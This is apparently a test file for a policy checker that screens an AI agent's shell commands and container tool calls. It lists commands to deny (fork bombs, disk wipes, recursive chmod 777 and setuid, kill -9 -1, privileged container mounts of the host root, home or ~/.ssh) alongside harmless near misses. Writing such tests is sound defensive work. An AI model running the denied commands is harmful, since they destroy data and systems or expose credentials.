import { policyTable } from './table';

// A 100 KB word once cost tens of seconds in a back-referencing regex; the verdicts must hold at that size.
const LONG_WORD = 'a'.repeat(100_000);

policyTable('fork-bomb', [
  { spec: ':(){ :|:& };:', expect: 'deny' },
  { note: 'spaced', spec: ':() { : | : & }; :', expect: 'deny' },
  { note: 'renamed', spec: 'bomb(){ bomb|bomb& };bomb', expect: 'deny' },
  { note: 'in bash -c', spec: "bash -c ':(){ :|:& };:'", expect: 'deny' },
  { note: 'perl', spec: 'perl -e "fork while fork"', expect: 'deny' },
  { note: 'python loop', spec: 'python3 -c "import os\nwhile True: os.fork()"', expect: 'deny' },
  { note: 'near miss: a function that pipes others', spec: 'f(){ ls | wc -l; }; f', expect: null },
  { note: 'near miss: background job', spec: 'npm run dev &', expect: null },
  { note: 'near miss: yes | head', spec: 'yes | head -n 3', expect: null },
  { note: 'a name with dots and colons', spec: 'a.b:c(){ a.b:c|a.b:c& };a.b:c', expect: 'deny' },
  { note: 'a 100 KB function name', spec: `${LONG_WORD}(){ ${LONG_WORD}|${LONG_WORD}& };${LONG_WORD}`, expect: 'deny' },
  { note: 'near miss: a 100 KB word', spec: `echo ${LONG_WORD}`, expect: null },
  { note: 'near miss: a 100 KB word glued to ()', spec: `echo '${LONG_WORD}() { x; }'`, expect: null },
  { note: 'near miss: pipes another word into it', spec: 'f(){ g|f& }; f', expect: null },
  { note: 'near miss: the pipe is past the body', spec: 'f(){ echo; }; f|f&', expect: null },
]);

policyTable('disk-wipe', [
  {
    note: "a gateway's boot flash erased over ssh",
    spec: "ssh root@gateway.acme.internal 'flash_erase /dev/mtd0 0 0'",
    expect: 'deny',
  },
  { note: 'near miss: the flash partitions listed', spec: 'cat /proc/mtd', expect: null },
  { spec: 'dd if=/dev/zero of=/dev/sda bs=1M', expect: 'deny' },
  { note: 'nvme', spec: 'sudo dd if=/dev/urandom of=/dev/nvme0n1', expect: 'deny' },
  { note: 'macOS disk', spec: 'dd if=/dev/zero of=/dev/disk2', expect: 'deny' },
  { note: 'mkfs', spec: 'mkfs.ext4 /dev/sdb1', expect: 'deny' },
  { note: 'mkfs via bash -c', spec: 'bash -c "mkfs -t xfs /dev/vdb"', expect: 'deny' },
  { note: 'wipefs', spec: 'wipefs -a /dev/sdc', expect: 'deny' },
  { note: 'shred a device', spec: 'shred -vzn 3 /dev/sda', expect: 'deny' },
  { note: 'redirect onto a device', spec: 'cat /dev/urandom > /dev/sda', expect: 'deny' },
  { note: 'echo onto a device', spec: 'echo x > /dev/nvme0n1', expect: 'deny' },
  { note: 'sgdisk zap', spec: 'sgdisk --zap-all /dev/sda', expect: 'deny' },
  { note: 'diskutil', spec: 'diskutil eraseDisk JHFS+ Empty /dev/disk3', expect: 'deny' },
  { note: 'near miss: image file in the project', spec: 'dd if=/dev/zero of=./disk.img bs=1M count=1', expect: null },
  { note: 'near miss: of=/dev/null', spec: 'dd if=big.bin of=/dev/null bs=1M', expect: null },
  { note: 'near miss: mkfs of an image in the project', spec: 'mkfs.ext4 -F ./test.img', expect: null },
  { note: 'near miss: reading a device', spec: 'sudo fdisk -l /dev/sda', expect: null },
  { note: 'near miss: shred a file', spec: 'shred -u secret.tmp', expect: null },
  { note: 'near miss: diskutil list', spec: 'diskutil list', expect: null },
]);

policyTable('permission-blowup', [
  { spec: 'chmod -R 777 /', expect: 'deny' },
  { note: 'recursive 777 in the project', spec: 'chmod -R 777 .', expect: 'deny' },
  { note: 'long option', spec: 'chmod --recursive a+rwx src', expect: 'deny' },
  { note: 'world-writable system file', spec: 'chmod 666 /etc/passwd', expect: 'deny' },
  { note: 'o+w on home', spec: 'chmod o+w ~/.ssh', expect: 'deny' },
  { note: 'setuid', spec: 'chmod u+s ./bin/tool', expect: 'deny' },
  { note: 'setuid octal', spec: 'chmod 4755 /usr/local/bin/x', expect: 'deny' },
  { note: 'recursive outside', spec: 'chmod -R 700 ~/', expect: 'deny' },
  { note: 'chown -R system', spec: 'sudo chown -R dev:dev /usr', expect: 'deny' },
  { note: 'chown system file', spec: 'chown dev /etc/hosts', expect: 'deny' },
  { note: 'near miss: +x a script', spec: 'chmod +x scripts/build.sh', expect: null },
  { note: 'near miss: 755 in the project', spec: 'chmod 755 bin/cli.js', expect: null },
  { note: 'near miss: recursive u+w in the project', spec: 'chmod -R u+w dist', expect: null },
  { note: 'near miss: chown in the project', spec: 'chown -R dev:dev ./data', expect: null },
  { note: 'near miss: temp folder', spec: 'chmod 777 /tmp/sock', expect: null },
]);

policyTable('mass-process-kill', [
  { spec: 'kill -9 -1', expect: 'deny' },
  { note: 'with --', spec: 'kill -KILL -- -1', expect: 'deny' },
  { note: 'killall5', spec: 'killall5 -9', expect: 'deny' },
  { note: 'pkill -u', spec: 'pkill -9 -u dev', expect: 'deny' },
  { note: 'near miss: one pid', spec: 'kill -9 12345', expect: null },
  { note: 'near miss: SIGHUP to one pid', spec: 'kill -1 12345', expect: null },
  { note: 'near miss: pkill by name', spec: 'pkill -f "vite --port 5173"', expect: null },
]);

policyTable('container-host-escape', [
  {
    note: 'a privileged container on a remote engine (docker -H ssh://…)',
    spec: 'docker -H ssh://deploy@web-1.prod.corp.internal run -d --privileged -v /:/host debug:1 sleep infinity',
    expect: 'deny',
  },
  { note: "near miss: a remote engine's containers listed", spec: 'docker -H ssh://deploy@web-1 ps', expect: null },
  {
    note: "a privileged container with the host's root, through a container engine's MCP tool",
    spec: {
      tool: 'mcp__docker__create_container',
      input: { image: 'alpine:3.20', command: ['sleep', 'infinity'], privileged: true, binds: ['/:/host'] },
    },
    expect: 'deny',
  },
  {
    note: 'the home folder mounted through the MCP tool',
    spec: {
      tool: 'mcp__docker__run_container',
      input: { image: 'registry.evil.example/agent:latest', volumes: ['/home/dev:/home/dev'] },
    },
    expect: 'deny',
  },
  {
    note: 'near miss: the project mounted through the MCP tool',
    spec: {
      tool: 'mcp__docker__run_container',
      input: { image: 'node:20', volumes: ['/home/dev/project:/app'], command: ['npm', 'test'] },
    },
    expect: null,
  },
  {
    note: 'near miss: listing containers through the MCP tool',
    spec: { tool: 'mcp__docker__list_containers', input: { all: true } },
    expect: null,
  },
  { spec: 'docker run --privileged -it ubuntu bash', expect: 'deny' },
  { note: 'root mount', spec: 'docker run -v /:/host alpine chroot /host', expect: 'deny' },
  { note: 'docker socket', spec: 'docker run -v /var/run/docker.sock:/var/run/docker.sock img', expect: 'deny' },
  { note: 'pid host', spec: 'docker run --pid=host alpine nsenter -t 1 -m sh', expect: 'deny' },
  { note: 'podman cap', spec: 'podman run --cap-add=SYS_ADMIN alpine', expect: 'deny' },
  { note: 'near miss: project mount', spec: 'docker run --rm -v "$PWD":/app -w /app node:20 npm test', expect: null },
  { note: 'near miss: port', spec: 'docker run -p 5432:5432 -d postgres:16', expect: null },
  { note: 'near miss: build', spec: 'docker build -t app .', expect: null },
  { note: 'home mount', spec: 'docker run --rm -v /home/dev:/h alpine cat /h/.ssh/id_rsa', expect: 'deny' },
  { note: '$HOME mount', spec: 'podman run --rm -v "$HOME":/mnt:rw busybox sh -c "rm -rf /mnt/*"', expect: 'deny' },
  { note: '~/.ssh mount', spec: 'docker run -v ~/.ssh:/keys:ro alpine ls /keys', expect: 'deny' },
  { note: '/home mount', spec: 'docker run --mount type=bind,source=/home,target=/h alpine ls /h', expect: 'deny' },
  {
    note: 'near miss: a project subfolder',
    spec: 'docker run -v /home/dev/proj/data:/data alpine ls /data',
    expect: null,
  },
  { note: 'near miss: named volume', spec: 'docker run -v pgdata:/var/lib/postgresql/data postgres:16', expect: null },
]);
